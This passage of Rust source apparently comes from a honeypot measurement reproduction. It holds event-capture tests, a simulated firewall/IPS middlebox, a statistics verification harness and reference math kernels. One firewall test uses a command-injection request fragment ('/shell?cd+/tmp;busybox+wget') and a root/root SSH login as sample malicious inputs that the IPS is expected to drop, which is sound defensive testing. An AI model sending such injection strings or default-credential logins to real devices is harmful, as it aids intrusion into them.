    pub fn events_on_port(&self, port: u16) -> impl Iterator<Item = ScanEvent> + '_ {
        let table = &self.table;
        table
            .dst_ports()
            .iter()
            .enumerate()
            .filter(move |&(_, &p)| p == port)
            .map(move |(i, _)| table.get(i))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ev(dst: Ipv4Addr, port: u16, observed: Observed) -> ScanEvent {
        ScanEvent {
            time: SimTime(0),
            src: Ipv4Addr::new(198, 51, 100, 7),
            src_asn: Asn(4134),
            dst,
            dst_port: port,
            observed,
        }
    }

    #[test]
    fn record_and_filter() {
        let mut cap = Capture::new("test");
        let a = Ipv4Addr::new(10, 0, 0, 1);
        let b = Ipv4Addr::new(10, 0, 0, 2);
        cap.record(ev(a, 22, Observed::Syn));
        cap.record(ev(b, 23, Observed::Handshake));
        cap.record(ev(a, 80, Observed::Syn));
        assert_eq!(cap.len(), 3);
        assert_eq!(cap.events_for_ip(a).count(), 2);
        assert_eq!(cap.events_on_port(23).count(), 1);
        assert_eq!(cap.event(1).dst, b);
    }

    /// The `(agent, seq)` order stamps ride beside the table row for row
    /// `i`; plain `record` is the `(0, 0)` degenerate stamp.
    #[test]
    fn record_from_keeps_order_stamps_parallel_to_rows() {
        let mut cap = Capture::new("test");
        let a = Ipv4Addr::new(10, 0, 0, 1);
        cap.record_from(ev(a, 22, Observed::Syn), 7, 3);
        cap.record(ev(a, 23, Observed::Handshake));
        cap.record_from(ev(a, 80, Observed::Syn), 2, 9);
        assert_eq!(cap.len(), 3);
        assert_eq!(cap.order(), &[(7, 3), (0, 0), (2, 9)]);
        assert_eq!(cap.event(2).dst_port, 80);
    }

    #[test]
    fn take_rows_drains_but_keeps_identity() {
        let shared = Interner::shared();
        let mut cap = Capture::new("hp").with_interner(Rc::clone(&shared));
        let p = cap.intern_payload(b"probe");
        cap.record_from(ev(Ipv4Addr::new(10, 0, 0, 1), 80, Observed::Payload(p)), 3, 1);
        let (table, order) = cap.take_rows();
        assert_eq!(table.len(), 1);
        assert_eq!(order, vec![(3, 1)]);
        assert!(cap.is_empty());
        assert_eq!(cap.vantage, "hp");
        // The interner handle survives the drain: later records reuse ids.
        assert_eq!(cap.intern_payload(b"probe"), p);
        cap.record(ev(Ipv4Addr::new(10, 0, 0, 2), 23, Observed::Payload(p)));
        assert_eq!(cap.len(), 1);
        assert_eq!(shared.borrow().payload_count(), 1);
    }

    #[test]
    fn observed_payload_accessor() {
        let cap = Capture::new("test");
        let pid = cap.intern_payload(b"GET /");
        assert_eq!(Observed::Payload(pid).payload(), Some(pid));
        assert_eq!(Observed::Syn.payload(), None);
        assert_eq!(cap.interner().borrow().payload(pid), b"GET /");
    }

    #[test]
    fn table_round_trips_rows() {
        let mut t = EventTable::new();
        let e = ScanEvent {
            time: SimTime(42),
            src: Ipv4Addr::new(203, 0, 113, 5),
            src_asn: Asn(174),
            dst: Ipv4Addr::new(10, 1, 2, 3),
            dst_port: 2323,
            observed: Observed::Handshake,
        };
        t.push(e);
        assert_eq!(t.get(0), e);
        assert_eq!(t.iter().collect::<Vec<_>>(), vec![e]);
    }

    #[test]
    fn shared_interner_spans_captures() {
        let shared = Interner::shared();
        let a = Capture::new("a").with_interner(Rc::clone(&shared));
        let b = Capture::new("b").with_interner(Rc::clone(&shared));
        let pa = a.intern_payload(b"\x03probe");
        let pb = b.intern_payload(b"\x03probe");
        assert_eq!(pa, pb);
        assert_eq!(shared.borrow().payload_count(), 1);
    }

    #[test]
    fn table_snapshot_round_trip() {
        let mut t = EventTable::new();
        t.push(ev(Ipv4Addr::new(10, 0, 0, 1), 22, Observed::Syn));
        t.push(ev(Ipv4Addr::new(10, 0, 0, 2), 23, Observed::Handshake));
        t.push(ev(Ipv4Addr::new(10, 0, 0, 3), 80, Observed::Payload(PayloadId(4))));
        t.push(ev(
            Ipv4Addr::new(10, 0, 0, 4),
            2222,
            Observed::Credentials {
                service: LoginService::Ssh,
                username: CredId(1),
                password: CredId(9),
            },
        ));
        let mut w = SnapWriter::new();
        t.snap_write(&mut w);
        let bytes = w.into_bytes();
        let mut r = SnapReader::new(&bytes);
        let back = EventTable::snap_read(&mut r).unwrap();
        assert!(r.is_exhausted());
        assert_eq!(back.len(), t.len());
        for i in 0..t.len() {
            assert_eq!(back.get(i), t.get(i));
        }
    }

    #[test]
    fn table_snapshot_rejects_unknown_tag() {
        let mut w = SnapWriter::new();
        w.put_u64(1);
        w.put_u64(0); // time
        w.put_u32(0); // src
        w.put_u32(0); // asn
        w.put_u32(0); // dst
        w.put_u16(0); // port
        w.put_u8(9); // bogus observation tag
        let bytes = w.into_bytes();
        let err = EventTable::snap_read(&mut SnapReader::new(&bytes)).unwrap_err();
        assert!(matches!(err, SnapError::Malformed(_)));
    }

    #[test]
    fn extend_remapped_applies_translation() {
        let mut src = EventTable::new();
        src.push(ScanEvent {
            time: SimTime(1),
            src: Ipv4Addr::new(1, 1, 1, 1),
            src_asn: Asn(1),
            dst: Ipv4Addr::new(2, 2, 2, 2),
            dst_port: 80,
            observed: Observed::Payload(PayloadId(0)),
        });
        let mut dst = EventTable::new();
        dst.extend_remapped(&src, |o| match o {
            Observed::Payload(_) => Observed::Payload(PayloadId(7)),
            other => other,
        });
        assert_eq!(dst.get(0).observed, Observed::Payload(PayloadId(7)));
    }
}
