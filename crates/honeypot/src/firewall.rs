//! Transparent firewall/IPS middleboxes (§7 "Firewalls" future work).
//!
//! "While none of our honeypots have firewalls, it is possible that a
//! network could transparently drop malicious traffic before they reach our
//! honeypots." A [`Firewall`] wraps any listener and silently drops flows
//! matching its policy *before* the instrument observes them — the
//! measurement-distorting middlebox the paper warns about. The
//! `firewall_bias` example quantifies the distortion.

use cw_detection::RuleSet;
use cw_netsim::engine::{FlowOutcome, Listener};
use cw_netsim::flow::{ConnectionIntent, Flow};
use std::cell::RefCell;
use std::collections::BTreeSet;
use std::net::Ipv4Addr;
use std::rc::Rc;

/// A transparent middlebox in front of a listener.
pub struct Firewall {
    name: String,
    inner: Rc<RefCell<dyn Listener>>,
    drop_dst_ports: BTreeSet<u16>,
    drop_sources: BTreeSet<Ipv4Addr>,
    /// IPS mode: drop payloads the vetted ruleset flags as malicious, and
    /// login attempts (credential-stuffing protection).
    ips: Option<RuleSet>,
    dropped: u64,
    passed: u64,
}

impl Firewall {
    /// Wrap a listener with an initially-permissive firewall.
    pub fn new(name: &str, inner: Rc<RefCell<dyn Listener>>) -> Self {
        Firewall {
            name: name.to_string(),
            inner,
            drop_dst_ports: BTreeSet::new(),
            drop_sources: BTreeSet::new(),
            ips: None,
            dropped: 0,
            passed: 0,
        }
    }

    /// Drop all traffic to a destination port (builder style).
    pub fn drop_port(mut self, port: u16) -> Self {
        self.drop_dst_ports.insert(port);
        self
    }

    /// Drop all traffic from a source (builder style).
    pub fn drop_source(mut self, src: Ipv4Addr) -> Self {
        self.drop_sources.insert(src);
        self
    }

    /// Enable IPS mode: malicious payloads (per the ruleset) and login
    /// attempts are dropped transparently (builder style).
    pub fn with_ips(mut self, rules: RuleSet) -> Self {
        self.ips = Some(rules);
        self
    }

    /// Flows silently dropped so far.
    pub fn dropped(&self) -> u64 {
        self.dropped
    }

    /// Flows passed through so far.
    pub fn passed(&self) -> u64 {
        self.passed
    }

    fn policy_drops(&self, flow: &Flow) -> bool {
        if self.drop_dst_ports.contains(&flow.dst_port)
            || self.drop_sources.contains(&flow.src)
        {
            return true;
        }
        if let Some(rules) = &self.ips {
            match &flow.intent {
                ConnectionIntent::Login { .. } => return true,
                ConnectionIntent::Payload(p) => {
                    if rules.is_malicious(p, flow.dst_port) {
                        return true;
                    }
                }
                ConnectionIntent::ProbeOnly => {}
            }
        }
        false
    }
}

impl Listener for Firewall {
    fn name(&self) -> &str {
        &self.name
    }

    fn covers(&self, ip: Ipv4Addr) -> bool {
        self.inner.borrow().covers(ip)
    }

    fn on_flow(&mut self, flow: &Flow) -> FlowOutcome {
        if self.policy_drops(flow) {
            self.dropped += 1;
            // Transparent drop: the scanner sees dark space, the instrument
            // behind the firewall sees nothing at all.
            return FlowOutcome::dark();
        }
        self.passed += 1;
        self.inner.borrow_mut().on_flow(flow)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::framework::{HoneypotListener, PortPolicy};
    use cw_netsim::asn::Asn;
    use cw_netsim::flow::{FlowSpec, LoginService};
    use cw_netsim::time::SimTime;

    fn flow(port: u16, intent: ConnectionIntent) -> Flow {
        Flow::from_spec(
            FlowSpec {
                src: Ipv4Addr::new(100, 0, 0, 9),
                src_asn: Asn(1),
                dst: Ipv4Addr::new(10, 0, 0, 1),
                dst_port: port,
                intent,
            },
            SimTime(1),
            0,
        )
    }

    fn wrapped() -> (Firewall, Rc<RefCell<crate::capture::Capture>>) {
        let hp = HoneypotListener::new(
            "inner",
            [Ipv4Addr::new(10, 0, 0, 1)],
            PortPolicy::FirstPayload,
        )
        .with_policy(22, PortPolicy::Interactive(LoginService::Ssh));
        let cap = hp.capture();
        let fw = Firewall::new("fw", Rc::new(RefCell::new(hp)));
        (fw, cap)
    }

    #[test]
    fn permissive_firewall_is_transparent() {
        let (mut fw, cap) = wrapped();
        let out = fw.on_flow(&flow(80, ConnectionIntent::Payload(b"GET / HTTP/1.1\r\n\r\n".to_vec())));
        assert!(out.handshake_completed);
        assert_eq!(cap.borrow().len(), 1);
        assert_eq!(fw.passed(), 1);
        assert_eq!(fw.dropped(), 0);
    }

    #[test]
    fn port_and_source_drops() {
        let (fw, cap) = wrapped();
        let mut fw = fw
            .drop_port(23)
            .drop_source(Ipv4Addr::new(100, 0, 0, 9));
        let out = fw.on_flow(&flow(80, ConnectionIntent::ProbeOnly));
        assert!(!out.handshake_completed);
        assert_eq!(fw.dropped(), 1);
        assert!(cap.borrow().is_empty());
    }

    #[test]
    fn ips_drops_exploits_and_logins_but_passes_benign() {
        let (fw, cap) = wrapped();
        let mut fw = fw.with_ips(RuleSet::builtin());
        // Malicious payload: dropped before the honeypot sees it.
        fw.on_flow(&flow(
            80,
            ConnectionIntent::Payload(cw_protocols::HttpRequest::new("GET", "/shell?cd+/tmp;busybox+wget").to_bytes()),
        ));
        // Login attempt: dropped.
        fw.on_flow(&flow(
            22,
            ConnectionIntent::Login {
                service: LoginService::Ssh,
                username: "root".into(),
                password: "root".into(),
            },
        ));
        // Benign GET: passes.
        fw.on_flow(&flow(
            80,
            ConnectionIntent::Payload(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n".to_vec()),
        ));
        assert_eq!(fw.dropped(), 2);
        assert_eq!(fw.passed(), 1);
        assert_eq!(cap.borrow().len(), 1);
    }

    #[test]
    fn coverage_is_delegated() {
        let (fw, _cap) = wrapped();
        assert!(fw.covers(Ipv4Addr::new(10, 0, 0, 1)));
        assert!(!fw.covers(Ipv4Addr::new(10, 0, 0, 2)));
    }
}
