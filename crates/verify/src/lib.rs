//! Correctness net for the measurement pipeline (`cw-verify`).
//!
//! Every empirical claim this reproduction makes — Tables 1–17, Figure 1,
//! the Bonferroni-corrected chi-squared comparisons — flows through
//! `cw-stats` and `cw-core`. This crate turns that pipeline into a
//! self-checking system, in three layers:
//!
//! 1. [`oracle`] — independent reference implementations (different
//!    series, closed forms, or brute-force enumeration) of every
//!    statistical kernel, for 1e-9 agreement checks against `cw-stats`.
//! 2. [`nullcal`] + [`metamorphic`] — behavioural invariants: the
//!    comparison machinery must stay quiet on label-permuted
//!    (exchangeable) inputs, and the dataset pipeline must be invariant
//!    under event-order permutation, merge association, and thread count.
//! 3. [`golden`] — a content-hashed manifest ([`sha256`], shared with the
//!    snapshot cache via `cw_netsim`) of the 25 `out/*.txt` exhibits with
//!    a `CW_BLESS=1` re-bless flow, so no refactor changes a published
//!    byte unnoticed.
//!
//! The workspace test layer (`tests/` at the root) drives all three; see
//! `docs/TESTING.md` for how the tiers fit together.

#![forbid(unsafe_code)]
#![deny(missing_docs)]

pub mod golden;
pub mod metamorphic;
pub mod nullcal;
pub mod oracle;
pub use cw_netsim::sha256;
