//! The null-calibration harness: does the §3.3 comparison machinery stay
//! quiet on exchangeable inputs?
//!
//! Multi-vantage measurement lives or dies on whether cross-vantage
//! differences are real or pipeline artifacts. This harness runs the *full*
//! Table-comparison pipeline — characteristic extraction, top-3 union
//! contingency table, chi-squared, Bonferroni, Cramér's V — on scenario
//! events whose group labels have been randomly permuted
//! ([`cw_core::compare::permuted_label_freqs`]). Permuted labels destroy
//! any genuine vantage signal, so each comparison is a draw from the
//! pipeline's null distribution and the resulting p-values must be
//! approximately uniform on `[0, 1]`:
//!
//! - the one-sample KS distance to `U(0, 1)` must be small
//!   ([`ks_uniform`]);
//! - essentially nothing may clear the Bonferroni-corrected level — the
//!   correction machinery must not hallucinate vantage differences.
//!
//! Every random choice flows from the checked-in seeds in
//! [`NullCalConfig::checked_in`], so the uniformity assertion is exactly
//! reproducible in CI.

use cw_core::compare::{compare_freqs, permuted_label_freqs, CharKind};
use cw_core::dataset::Dataset;
use cw_core::scenario::{Scenario, ScenarioConfig};
use cw_netsim::rng::SimRng;
use cw_scanners::population::ScenarioYear;
use cw_stats::bonferroni_alpha;
use cw_stats::special::kolmogorov_sf;

/// Harness parameters. All randomness derives from the two seeds, so a
/// config value pins the whole experiment.
#[derive(Debug, Clone, Copy)]
pub struct NullCalConfig {
    /// Seed for the scenario whose events are permuted.
    pub scenario_seed: u64,
    /// Seed for the label permutations.
    pub perm_seed: u64,
    /// Scenario population scale (small: this runs under `cargo test`).
    pub scale: f64,
    /// Number of label permutations (= null p-values drawn).
    pub permutations: usize,
    /// Groups per permuted comparison (the paper compares 2–4 vantages).
    pub groups: usize,
    /// Uncorrected significance level (the paper's 0.05).
    pub alpha: f64,
}

impl NullCalConfig {
    /// The checked-in CI configuration. The seeds are frozen — changing
    /// them invalidates the documented uniformity evidence, so treat them
    /// like golden data.
    pub fn checked_in() -> Self {
        NullCalConfig {
            scenario_seed: 0xCA11_B0A7_2023,
            perm_seed: 0x0000_F00D_51CE,
            scale: 0.03,
            permutations: 200,
            groups: 2,
            alpha: 0.05,
        }
    }
}

/// The harness outcome.
#[derive(Debug, Clone)]
pub struct NullCalReport {
    /// One p-value per label permutation, in permutation order.
    pub p_values: Vec<f64>,
    /// One-sample KS distance of [`Self::p_values`] to `U(0, 1)`.
    pub ks_statistic: f64,
    /// Asymptotic KS p-value for that distance.
    pub ks_p_value: f64,
    /// Permutations significant at the *uncorrected* level.
    pub significant_raw: usize,
    /// Permutations significant after Bonferroni over the whole batch.
    pub significant_bonferroni: usize,
}

/// Draw the pipeline's null p-value distribution: repeatedly permute the
/// event labels of `dataset`, run the full comparison, and collect the
/// chi-squared p-value of each run. Degenerate permutations (tables the
/// paper marks ×) are skipped, which with scenario-sized inputs does not
/// happen in practice.
pub fn null_p_values(dataset: &Dataset, kind: CharKind, cfg: &NullCalConfig) -> Vec<f64> {
    let events: Vec<_> = dataset.events().collect();
    let rng = SimRng::seed_from_u64(cfg.perm_seed);
    let mut out = Vec::with_capacity(cfg.permutations);
    for stream in 0..cfg.permutations as u64 {
        // Independent sub-stream per permutation: dropping or adding one
        // permutation cannot shift any other's draw.
        let mut perm_rng = rng.fork(stream);
        let freqs = permuted_label_freqs(kind, &events, cfg.groups, &mut perm_rng);
        if let Some(cmp) = compare_freqs(kind, &freqs, cfg.alpha, cfg.permutations) {
            out.push(cmp.chi2.p_value);
        }
    }
    out
}

/// One-sample Kolmogorov–Smirnov test of `sample` against `U(0, 1)`:
/// returns `(D_n, p)` with the Stephens small-sample adjustment applied to
/// the asymptotic Kolmogorov distribution.
pub fn ks_uniform(sample: &[f64]) -> (f64, f64) {
    assert!(!sample.is_empty(), "KS of an empty sample");
    let mut s = sample.to_vec();
    s.sort_by(|a, b| a.partial_cmp(b).expect("p-values are not NaN"));
    let n = s.len() as f64;
    let mut d = 0.0f64;
    for (i, &p) in s.iter().enumerate() {
        let hi = (i as f64 + 1.0) / n - p;
        let lo = p - i as f64 / n;
        d = d.max(hi).max(lo);
    }
    let lambda = (n.sqrt() + 0.12 + 0.11 / n.sqrt()) * d;
    (d, kolmogorov_sf(lambda))
}

/// Run the whole harness for one characteristic: simulate the scenario,
/// permute labels, collect null p-values, and test them for uniformity.
pub fn run(year: ScenarioYear, kind: CharKind, cfg: &NullCalConfig) -> NullCalReport {
    let scenario = Scenario::run(
        ScenarioConfig::fast(year)
            .with_seed(cfg.scenario_seed)
            .with_scale(cfg.scale),
    );
    report(&scenario.dataset, kind, cfg)
}

/// The analysis half of [`run`], for callers that already hold a dataset
/// (tests reuse one scenario across characteristics).
pub fn report(dataset: &Dataset, kind: CharKind, cfg: &NullCalConfig) -> NullCalReport {
    let p_values = null_p_values(dataset, kind, cfg);
    let (ks_statistic, ks_p_value) = ks_uniform(&p_values);
    let corrected = bonferroni_alpha(cfg.alpha, cfg.permutations);
    let significant_raw = p_values.iter().filter(|&&p| p < cfg.alpha).count();
    let significant_bonferroni = p_values.iter().filter(|&&p| p < corrected).count();
    NullCalReport {
        p_values,
        ks_statistic,
        ks_p_value,
        significant_raw,
        significant_bonferroni,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ks_uniform_accepts_a_uniform_grid() {
        // The plug-in least-favorable uniform sample: p_i = (i - 0.5) / n.
        let n = 100;
        let grid: Vec<f64> = (0..n).map(|i| (i as f64 + 0.5) / n as f64).collect();
        let (d, p) = ks_uniform(&grid);
        assert!(d <= 0.5 / n as f64 + 1e-12, "grid distance {d}");
        assert!(p > 0.99, "grid must look uniform, got p = {p}");
    }

    #[test]
    fn ks_uniform_rejects_a_point_mass() {
        let clumped = vec![0.5; 50];
        let (d, p) = ks_uniform(&clumped);
        assert!(d >= 0.5);
        assert!(p < 1e-6, "a point mass must be rejected, got p = {p}");
    }

    #[test]
    fn ks_uniform_detects_anticonservative_skew() {
        // p-values piled near 0 — the exact failure mode the harness
        // exists to catch.
        let skewed: Vec<f64> = (0..100).map(|i| (i as f64 + 0.5) / 1000.0).collect();
        let (_, p) = ks_uniform(&skewed);
        assert!(p < 1e-9);
    }

    #[test]
    fn checked_in_seeds_are_frozen() {
        // Golden values: the CI uniformity evidence is tied to these.
        let cfg = NullCalConfig::checked_in();
        assert_eq!(cfg.scenario_seed, 0xCA11_B0A7_2023);
        assert_eq!(cfg.perm_seed, 0x0000_F00D_51CE);
        assert_eq!((cfg.permutations, cfg.groups), (200, 2));
    }
}
