//! Independent reference implementations of the statistical kernels.
//!
//! Every function here recomputes a quantity that `cw-stats` also
//! computes, **by a different route**: a different series, a different
//! closed form, or brute-force enumeration. The oracle test suite asserts
//! agreement (to 1e-9 or better for the continuous kernels, exactly for
//! the combinatorial ones), so a regression in either implementation
//! trips the net — the two routes share no code.
//!
//! Routes used:
//!
//! | quantity                | `cw-stats` route              | oracle route |
//! |-------------------------|-------------------------------|--------------|
//! | `ln Γ`                  | Lanczos (g=7)                 | Stirling–Bernoulli with argument shift |
//! | `erf` / `erfc`          | incomplete-gamma identity     | Taylor series / Legendre continued fraction |
//! | chi² survival           | `Q(df/2, x/2)` via NR §6.2    | finite Poisson sum (even df), erfc + recurrence (odd df) |
//! | Kolmogorov survival     | alternating exponential series| Jacobi theta-transformed dual series |
//! | Mann–Whitney U          | rank sums with midranks       | pairwise comparison counting; exact permutation enumeration |
//! | two-sample KS statistic | sorted two-pointer sweep      | brute-force ECDF evaluation at every pooled point |
//! | chi² statistic, V       | pruned-table accumulation     | direct Σ(O−E)²/E from raw marginals |

/// `ln Γ(z)` by the Stirling–Bernoulli asymptotic series with an argument
/// shift to `z ≥ 20` (independent of the Lanczos route in `cw-stats`).
///
/// At `z = 20` the first dropped term is `< 1e-17`, so the result is
/// accurate to full `f64` precision for all `z > 0`.
pub fn ln_gamma_ref(z: f64) -> f64 {
    assert!(z > 0.0, "ln_gamma_ref requires z > 0, got {z}");
    // Bernoulli coefficients B_{2n} / (2n (2n-1)).
    const COEF: [f64; 7] = [
        1.0 / 12.0,
        -1.0 / 360.0,
        1.0 / 1260.0,
        -1.0 / 1680.0,
        1.0 / 1188.0,
        -691.0 / 360_360.0,
        1.0 / 156.0,
    ];
    let mut shift = 0.0;
    let mut z = z;
    while z < 20.0 {
        shift -= z.ln();
        z += 1.0;
    }
    let mut tail = 0.0;
    let z2 = z * z;
    let mut zpow = z;
    for c in COEF {
        tail += c / zpow;
        zpow *= z2;
    }
    shift + (z - 0.5) * z.ln() - z + 0.5 * (2.0 * std::f64::consts::PI).ln() + tail
}

/// `erf(x)` by its Maclaurin series — accurate to ~1e-14 for `|x| ≤ 2`
/// (beyond that use [`erfc_ref`], which has no cancellation).
pub fn erf_taylor(x: f64) -> f64 {
    assert!(x.abs() <= 2.0 + 1e-12, "erf_taylor needs |x| <= 2, got {x}");
    let mut term = x;
    let mut sum = x;
    let x2 = x * x;
    for n in 1..200 {
        let n = n as f64;
        // term_n = (-1)^n x^{2n+1} / (n! (2n+1)); ratio from term_{n-1}.
        term *= -x2 / n;
        let add = term / (2.0 * n + 1.0);
        sum += add;
        if add.abs() < 1e-18 * sum.abs().max(1e-300) {
            break;
        }
    }
    sum * 2.0 / std::f64::consts::PI.sqrt()
}

/// `erfc(x)` for `x ≥ 2` by the Legendre continued fraction
/// `erfc(x) = e^{-x²}/√π · 1/(x + (1/2)/(x + 1/(x + (3/2)/(x + …))))`,
/// evaluated with modified Lentz — no cancellation in the upper tail.
pub fn erfc_contfrac(x: f64) -> f64 {
    assert!(x >= 2.0, "erfc_contfrac needs x >= 2, got {x}");
    let tiny = 1e-300;
    let mut f: f64 = tiny;
    let mut c: f64 = f;
    let mut d: f64 = 0.0;
    // b_n = x for all n; a_1 = 1, a_n = (n-1)/2 for n >= 2.
    for n in 1..500 {
        let a = if n == 1 { 1.0 } else { (n as f64 - 1.0) / 2.0 };
        let b = x;
        d = b + a * d;
        if d.abs() < tiny {
            d = tiny;
        }
        c = b + a / c;
        if c.abs() < tiny {
            c = tiny;
        }
        d = 1.0 / d;
        let delta = c * d;
        f *= delta;
        if (delta - 1.0).abs() < 1e-16 {
            break;
        }
    }
    (-x * x).exp() / std::f64::consts::PI.sqrt() * f
}

/// Reference `erfc(x)` over the whole line, routing to the series or the
/// continued fraction by argument size.
pub fn erfc_ref(x: f64) -> f64 {
    if x >= 2.0 {
        erfc_contfrac(x)
    } else if x <= -2.0 {
        2.0 - erfc_contfrac(-x)
    } else {
        1.0 - erf_taylor(x)
    }
}

/// Reference `erf(x)`.
pub fn erf_ref(x: f64) -> f64 {
    if x.abs() <= 2.0 {
        erf_taylor(x)
    } else {
        1.0 - erfc_ref(x)
    }
}

/// Reference standard normal CDF `Φ(z)`.
pub fn normal_cdf_ref(z: f64) -> f64 {
    0.5 * erfc_ref(-z / std::f64::consts::SQRT_2)
}

/// Reference chi-squared survival function for **integer** degrees of
/// freedom, by closed forms:
///
/// - even `df = 2k`: `Q = e^{-y} Σ_{j<k} y^j/j!` with `y = x/2` (a finite
///   Poisson sum — exact up to rounding);
/// - odd `df = 2k+1`: start from `Q(1/2, y) = erfc(√y)` and apply the
///   recurrence `Q(a+1, y) = Q(a, y) + y^a e^{-y}/Γ(a+1)` k times.
pub fn chi2_sf_ref(x: f64, df: u32) -> f64 {
    assert!(df > 0, "chi2_sf_ref requires df > 0");
    if x <= 0.0 {
        return 1.0;
    }
    let y = x / 2.0;
    if df.is_multiple_of(2) {
        let k = df / 2;
        let mut term = 1.0f64; // y^0 / 0!
        let mut sum = 1.0f64;
        for j in 1..k {
            term *= y / j as f64;
            sum += term;
        }
        ((-y).exp() * sum).clamp(0.0, 1.0)
    } else {
        let k = (df - 1) / 2;
        let mut q = erfc_ref(y.sqrt());
        let mut a = 0.5f64;
        for _ in 0..k {
            // Q(a+1, y) = Q(a, y) + y^a e^{-y} / Γ(a+1)
            q += (a * y.ln() - y - ln_gamma_ref(a + 1.0)).exp();
            a += 1.0;
        }
        q.clamp(0.0, 1.0)
    }
}

/// Chi-squared upper quantile for integer `df`: the `x` with
/// `chi2_sf_ref(x, df) = alpha`, found by bisection on the reference
/// survival function to ~1e-12 absolute.
pub fn chi2_quantile_ref(alpha: f64, df: u32) -> f64 {
    assert!((0.0..1.0).contains(&alpha) && alpha > 0.0);
    let (mut lo, mut hi) = (0.0f64, 1.0f64);
    while chi2_sf_ref(hi, df) > alpha {
        hi *= 2.0;
        assert!(hi < 1e9, "quantile bracket failed");
    }
    for _ in 0..200 {
        let mid = 0.5 * (lo + hi);
        if chi2_sf_ref(mid, df) > alpha {
            lo = mid;
        } else {
            hi = mid;
        }
    }
    0.5 * (lo + hi)
}

/// Reference Kolmogorov survival function by the Jacobi theta-transformed
/// dual series: `1 − (√(2π)/λ) Σ_{j≥1} e^{−(2j−1)²π²/(8λ²)}`.
///
/// The dual series converges everywhere on `λ > 0` and is *fastest* for
/// small `λ`, exactly where the primary alternating series (used by
/// `cw-stats`) is slowest — so agreement between the two is a strong check.
pub fn kolmogorov_sf_ref(lambda: f64) -> f64 {
    if lambda <= 0.0 {
        return 1.0;
    }
    let pi = std::f64::consts::PI;
    let c = pi * pi / (8.0 * lambda * lambda);
    let mut sum = 0.0f64;
    for j in 1..1000u32 {
        let odd = (2 * j - 1) as f64;
        let term = (-odd * odd * c).exp();
        sum += term;
        if term < 1e-18 * sum.max(1e-300) {
            break;
        }
    }
    let cdf = (2.0 * pi).sqrt() / lambda * sum;
    (1.0 - cdf).clamp(0.0, 1.0)
}

/// Brute-force Mann–Whitney U for the first sample, straight from the
/// definition: `U = #{(i,j): x_i > y_j} + ½·#{(i,j): x_i = y_j}`.
pub fn mwu_u_pairwise(x: &[f64], y: &[f64]) -> f64 {
    let mut u = 0.0;
    for &a in x {
        for &b in y {
            if a > b {
                u += 1.0;
            } else if a == b {
                u += 0.5;
            }
        }
    }
    u
}

/// Exact one-sided Mann–Whitney p-value `P(U ≥ u_obs)` under the
/// permutation null, by enumerating all `C(n1+n2, n1)` group assignments
/// of the pooled sample (ties included — the pooled values are fixed,
/// only labels move). Exponential in the pooled size; intended for
/// `n1 + n2 ≤ 16`.
pub fn mwu_exact_p_greater(x: &[f64], y: &[f64]) -> f64 {
    let pooled: Vec<f64> = x.iter().chain(y.iter()).copied().collect();
    let n = pooled.len();
    let n1 = x.len();
    assert!(n <= 16, "exact enumeration limited to pooled n <= 16");
    let u_obs = mwu_u_pairwise(x, y);
    let mut total = 0u64;
    let mut at_least = 0u64;
    // Enumerate subsets of {0..n} of size n1 as the pseudo-x labels.
    let mut idx: Vec<usize> = (0..n1).collect();
    loop {
        let px: Vec<f64> = idx.iter().map(|&i| pooled[i]).collect();
        let mask: std::collections::BTreeSet<usize> = idx.iter().copied().collect();
        let py: Vec<f64> = (0..n)
            .filter(|i| !mask.contains(i))
            .map(|i| pooled[i])
            .collect();
        total += 1;
        if mwu_u_pairwise(&px, &py) >= u_obs - 1e-9 {
            at_least += 1;
        }
        // Next lexicographic combination.
        let mut i = n1;
        loop {
            if i == 0 {
                return at_least as f64 / total as f64;
            }
            i -= 1;
            if idx[i] != i + n - n1 {
                break;
            }
        }
        idx[i] += 1;
        for j in i + 1..n1 {
            idx[j] = idx[j - 1] + 1;
        }
    }
}

/// Brute-force two-sample KS statistic: evaluate both ECDFs at every
/// pooled sample point and take the largest absolute difference.
pub fn ks_d_bruteforce(x: &[f64], y: &[f64]) -> f64 {
    let ecdf = |s: &[f64], t: f64| s.iter().filter(|&&v| v <= t).count() as f64 / s.len() as f64;
    x.iter()
        .chain(y.iter())
        .map(|&t| (ecdf(x, t) - ecdf(y, t)).abs())
        .fold(0.0, f64::max)
}

/// Brute-force Pearson chi-squared statistic from raw counts: compute
/// marginals, expectations, and `Σ (O−E)²/E` directly, skipping cells in
/// all-zero rows/columns (the §3.3 pruning). Returns `(statistic, df)` of
/// the pruned table, or `None` when fewer than 2 non-zero rows/columns
/// survive.
pub fn chi2_stat_bruteforce(counts: &[Vec<u64>]) -> Option<(f64, usize)> {
    let rows = counts.len();
    let cols = counts.first().map(|r| r.len()).unwrap_or(0);
    let row_tot: Vec<u64> = counts.iter().map(|r| r.iter().sum()).collect();
    let mut col_tot = vec![0u64; cols];
    for row in counts {
        for (c, &v) in row.iter().enumerate() {
            col_tot[c] += v;
        }
    }
    let live_rows: Vec<usize> = (0..rows).filter(|&r| row_tot[r] > 0).collect();
    let live_cols: Vec<usize> = (0..cols).filter(|&c| col_tot[c] > 0).collect();
    if live_rows.len() < 2 || live_cols.len() < 2 {
        return None;
    }
    let n: u64 = row_tot.iter().sum();
    let mut stat = 0.0;
    for &r in &live_rows {
        for &c in &live_cols {
            let e = row_tot[r] as f64 * col_tot[c] as f64 / n as f64;
            let d = counts[r][c] as f64 - e;
            stat += d * d / e;
        }
    }
    Some((stat, (live_rows.len() - 1) * (live_cols.len() - 1)))
}

/// Brute-force Cramér's V from raw counts (via [`chi2_stat_bruteforce`]).
pub fn cramers_v_bruteforce(counts: &[Vec<u64>]) -> Option<f64> {
    let (stat, _) = chi2_stat_bruteforce(counts)?;
    let row_tot: Vec<u64> = counts.iter().map(|r| r.iter().sum()).collect();
    let cols = counts.first().map(|r| r.len()).unwrap_or(0);
    let mut col_tot = vec![0u64; cols];
    for row in counts {
        for (c, &v) in row.iter().enumerate() {
            col_tot[c] += v;
        }
    }
    let live_rows = row_tot.iter().filter(|&&t| t > 0).count();
    let live_cols = col_tot.iter().filter(|&&t| t > 0).count();
    let n: u64 = row_tot.iter().sum();
    let df_star = live_rows.min(live_cols).saturating_sub(1).max(1);
    Some((stat / (n as f64 * df_star as f64)).sqrt().clamp(0.0, 1.0))
}

/// Tabulated standard normal upper quantiles `(p, z_p)` — textbook values,
/// exact to the printed digit.
pub const NORMAL_QUANTILES: [(f64, f64); 5] = [
